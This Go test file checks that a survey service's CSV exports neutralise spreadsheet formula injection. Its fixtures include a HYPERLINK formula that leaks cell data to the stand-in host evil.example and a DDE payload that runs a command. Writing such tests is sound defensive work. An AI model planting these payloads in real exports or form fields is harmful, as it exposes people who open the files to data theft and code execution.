package site_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/safeguarding/safetysurvey/survey"
	"github.com/safeguarding/safetysurvey/survey/staff"
)

// Cells a spreadsheet would run as formulas, as typed into a channel's name and area.
const (
	formulaName = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	formulaArea = `=cmd|' /C calc'!A0`
	formulaText = `+SUM(1,2)`
)

// TestCSVFormulas downloads every CSV the service writes, with cells someone typed that a
// spreadsheet would run as formulas, and checks no cell begins with =, +, -, @, tab or CR.
func TestCSVFormulas(t *testing.T) {
	ta := newTestApp(t)
	ctx := context.Background()
	ta.addChannel(t, survey.Channel{Code: "K7P3QX", Name: formulaName, Setting: survey.SettingSchool, Area: formulaArea})
	for i := range 30 {
		sub := survey.Submission{Key: fmt.Sprintf("csv-formula-key-%04d", i), Lang: "en", Channel: "K7P3QX",
			Answers: survey.Answers{"safe_home": {Choices: []string{"yes"}}, "needs_done": {Text: formulaText}}}
		if _, err := ta.svc.SubmitResponse(ctx, slug, sub); err != nil {
			t.Fatal(err)
		}
	}
	if err := ta.db.Settle(ctx); err != nil {
		t.Fatal(err)
	}
	ta.addStaff(t, "admin@example.org", staff.Admin)
	b := ta.signIn(t, "admin@example.org")
	b.get(t, "/staff/surveys/"+slug+"/responses/export")
	_, export := b.postDownload(t, "/staff/surveys/"+slug+"/responses.csv", url.Values{"reason": {"board report"}, "confirm": {"yes"}})

	for _, tc := range []struct {
		name string
		body func(t *testing.T) []byte
		want string // a neutralised cell the file must hold
	}{
		{"APIChannels", func(t *testing.T) []byte {
			_, body := ta.api(t, http.MethodGet, "/api/v1/surveys/"+slug+"/channels.csv", "")
			return body
		}, "'" + formulaName},
		{"StaffChannels", func(t *testing.T) []byte {
			_, body := ta.do(t, withCookies(b, "/staff/surveys/"+slug+"/channels.csv"))
			return body
		}, "'" + formulaArea},
		{"PublicSummary", func(t *testing.T) []byte {
			_, body := ta.do(t, httptest.NewRequest(http.MethodGet, "/api/v1/surveys/"+slug+"/summary?by=_area&format=csv", nil))
			return body
		}, "'" + formulaArea},
		{"StaffSummary", func(t *testing.T) []byte {
			_, body := ta.do(t, withCookies(b, "/staff/surveys/"+slug+"/summary?by=_area&format=csv"))
			return body
		}, "'" + formulaArea},
		{"ResponsesExport", func(*testing.T) []byte { return export }, "'" + formulaText},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rows, err := csv.NewReader(strings.NewReader(string(tc.body(t)))).ReadAll()
			if err != nil {
				t.Fatalf("not CSV: %v", err)
			}
			found := false
			for _, row := range rows {
				for _, cell := range row {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("cell %q would run as a formula", cell)
					}
					found = found || cell == tc.want
				}
			}
			if !found {
				t.Errorf("no cell %q in the %d rows", tc.want, len(rows))
			}
		})
	}
}
